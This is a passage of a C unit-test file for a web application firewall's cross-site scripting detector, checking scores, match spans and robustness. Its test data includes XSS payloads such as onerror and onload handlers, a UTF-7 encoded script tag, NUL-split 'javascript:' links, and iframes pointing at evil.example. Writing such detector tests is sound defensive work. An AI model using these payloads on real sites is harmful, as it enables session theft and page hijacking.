    for (size_t i = 0; i < RP_ARRAY_SIZE(benign); i++) {
        rp__waf_match_t m;
        int sc = xss(benign[i], strlen(benign[i]), &m);
        CHECK(sc < BLOCK);
        if (sc >= BLOCK)
            fprintf(stderr, "    benign %zu: score %d \"%s\" for: %s\n", i, sc, m.evidence, benign[i]);
    }
}

/* Values that are merely suspicious: reported, not blocked. */
TEST(suspicious)
{
    static const char *const s[] = {
        "<iframe src=\"https://evil.example/phish\"></iframe>",
        "<noscript#x>",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<a href=\"https://example.com/?next=",
        "<meta name=\"robots\" content=\"noindex\">",
        "\"a\" + f(x)",
    };
    for (size_t i = 0; i < RP_ARRAY_SIZE(s); i++) {
        int sc = score(s[i]);
        CHECK(sc < BLOCK);
        if (sc >= BLOCK)
            fprintf(stderr, "    suspicious %zu: score %d for: %s\n", i, sc, s[i]);
    }
    CHECK(score("<iframe src=\"https://evil.example/phish\"></iframe>") >= 10);
    CHECK(score("<p>Do not use <script> tags in comments.</p>") >= 10);
}

/* ---------------------------------------------------------------------- */
/* The answer's details.                                                    */

TEST(span_and_evidence)
{
    rp__waf_match_t m;
    const char *v = "hello <img src=x onerror=alert(1)> world";
    CHECK(xss(v, strlen(v), &m) >= 90);
    /* the span covers the tag up to the handler's code */
    CHECK_EQ_INT(m.off, 6);
    CHECK(m.len >= 27 && m.off + m.len <= strlen(v));
    CHECK(strstr(m.evidence, "onerror") != NULL);
    v = "x\" onmouseover=\"alert(1)";
    CHECK(xss(v, strlen(v), &m) >= 85);
    CHECK_EQ_INT(m.off, 3);
    /* a transcoded reading reports the whole value */
    v = "x+ADw-script+AD4-prompt+ACg-1+ACk-+ADw-/script+AD4-";
    CHECK(xss(v, strlen(v), &m) >= 85);
    CHECK_EQ_INT(m.off, 0);
    CHECK_EQ_INT(m.len, strlen(v));
    CHECK(strncmp(m.evidence, "xss (UTF-7): ", 13) == 0);
    /* nothing found: no span, no evidence */
    CHECK_EQ_INT(xss("plain", 5, &m), 0);
    CHECK_EQ_INT(m.off, 0);
    CHECK_EQ_INT(m.len, 0);
}

TEST(flags_and_sources)
{
    rp__waf_match_t m;
    /* a JSON number is never script */
    CHECK_EQ_INT(rp__waf_xss("1", 1, RP_WAF_SRC_BODY, RP_WAF_PT_NUMBER, &m), 0);
    /* keys are read like values */
    CHECK(rp__waf_xss("<svg/onload=alert(1)>", 21, RP_WAF_SRC_QUERY, RP_WAF_PT_KEY, &m) >= 90);
    /* a path segment naming an API is documentation, a parameter is a probe */
    CHECK(xss_src("document.cookie", 15, RP_WAF_SRC_PATH, &m) < BLOCK);
    CHECK(xss_src("document.cookie", 15, RP_WAF_SRC_COOKIE, &m) >= BLOCK);
    /* empty and NULL */
    CHECK_EQ_INT(rp__waf_xss("", 0, RP_WAF_SRC_QUERY, 0, &m), 0);
    CHECK_EQ_INT(rp__waf_xss(NULL, 0, RP_WAF_SRC_QUERY, 0, &m), 0);
}

TEST(embedded_nul)
{
    /* the browser does not ignore NUL in a tag name or a scheme */
    static const char a[] = "<scr\0ipt>alert(1)</scr\0ipt>";
    CHECK(score("") == 0);
    rp__waf_match_t m;
    CHECK(xss(a, sizeof(a) - 1, &m) < 85);
    /* but a handler after a NUL is still a handler */
    static const char b[] = "\0<img src=x onerror=alert(1)>";
    CHECK(xss(b, sizeof(b) - 1, &m) >= 90);
    static const char c[] = "<a href=\"java\0script:alert(1)\">x</a>";
    CHECK(xss(c, sizeof(c) - 1, &m) < BLOCK);
}

/* Pathological values: answers in linear time, never a crash. */
TEST(pathological)
{
    static const char *const pats[] = {
        "<", "<a", "<a b=\"", "\"", "'", "onx='", "javascript:", "data:", "&#9;", "{{", "${",
        "`", "a`", "/*", "(", "[", "x(", "a.", "<script>", "</script>", "<!--", "\\", "+ADw-",
        "\xbc", ";alert(1)", " onabc=", "<x onload=", "document.", "[][", "&", "url(",
        "<!ENTITY % x SYSTEM ", "[]!+", ".call`", "${alert}", "window[", "=on", " \"", "</a",
    };
    size_t n = 64 * 1024;
    char *v = malloc(n);
    CHECK(v != NULL);
    if (!v)
        return;
    for (size_t p = 0; p < RP_ARRAY_SIZE(pats); p++) {
        size_t k = strlen(pats[p]);
        for (size_t i = 0; i < n; i++)
            v[i] = pats[p][i % k];
        rp__waf_match_t m;
        xss(v, n, &m);
    }
    free(v);
}

int main(void)
{
    RUN(tables_sorted);
    RUN(tokens_tags);
    RUN(tokens_text);
    RUN(tokens_comments);
    RUN(tokens_raw_text);
    RUN(tokens_unterminated);
    RUN(tokens_bytes);
    RUN(tokens_limits);
    RUN(attacks);
    RUN(benign);
    RUN(suspicious);
    RUN(span_and_evidence);
    RUN(flags_and_sources);
    RUN(embedded_nul);
    RUN(pathological);
    TEST_MAIN_END();
}
